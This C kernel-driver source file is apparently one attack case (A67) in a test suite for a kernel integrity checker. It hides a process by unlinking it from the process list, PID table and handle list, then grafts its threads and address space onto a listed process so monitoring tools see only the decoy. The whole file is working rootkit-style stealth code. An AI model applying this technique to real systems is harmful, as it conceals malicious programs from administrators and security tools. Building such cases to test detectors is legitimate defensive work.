/* attack_a67_impersonate (A67): a hidden process that takes a listed
 * one's place. Arguments: the PID to hide (default 1) and the PID of a
 * listed process whose thread waits for ever (default 2: `readln` waiting
 * for a console line that never comes). The first process leaves the
 * process list, the PID table and the handle-table list (as attack_a44);
 * its threads are handed to the second, linked into its thread list, and
 * the second's address space and memory areas become the first's. The
 * listed process's own thread never runs again (it would wake in the
 * other program's memory). Every view a checker has then shows the listed
 * process, with its name and PID, running the hidden program. Expected by
 * design: no bug check; the hidden program's heartbeat goes on under the
 * other PID. */
#include "attack_proc.h"
#include <kpp/process.h>

static struct process *find(uint64_t pid)
{
	struct list_link *start = &gs_current_thread()->process->link, *l = start;
	int n = 0;
	do {
		if (is_process(l) && PROCESS_OF(l)->pid == pid)
			return PROCESS_OF(l);
		l = l->next;
	} while (l != start && ++n < 4096);
	return NULL;
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pids[2] = {1, 2};
	const char *a = drv->args;
	for (int k = 0; k < 2 && *a; k++) {
		uint64_t v = 0;
		for (; *a >= '0' && *a <= '9'; a++)
			v = v * 10 + (uint64_t)(*a - '0');
		pids[k] = v;
		while (*a == ' ')
			a++;
	}
	struct process *victim = find(pids[0]), *host = find(pids[1]);
	struct pid_entry *slot = NULL;
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; victim && p < end && !slot; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (struct pid_entry *e = (struct pid_entry *)p; (uint64_t)(e + 1) <= p + A_PAGE; e++)
			if (e->process == victim && e->pid == pids[0]) {
				slot = e;
				break;
			}
	}
	if (!victim || !host || victim == host || !slot || !victim->threads) {
		printk("attack_a67: process %lu, %lu or the PID-table slot not found\n", pids[0], pids[1]);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* nothing runs between the edits */
	unlink(&victim->link);
	slot->process = NULL;
	slot->pid = 0;
	if (victim->handles)
		unlink(&victim->handles->link);
	struct thread *last = NULL;
	for (struct thread *t = victim->threads; t; t = t->proc_next) {
		t->process = host;
		host->nthreads++;
		last = t;
	}
	last->proc_next = host->threads;
	host->threads = victim->threads;
	host->cr3 = victim->cr3;
	memcpy(host->areas, victim->areas, sizeof host->areas);
	host->alloc_next = victim->alloc_next;
	host->pages = victim->pages;
	host->image_base = victim->image_base;
	host->image_size = victim->image_size;
	host->entry = victim->entry;
	printk("attack_a67: process %lu hidden inside process %lu (its threads, address space and memory areas)\n", pids[0],
	       pids[1]);
	a_patched("attack_a67");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
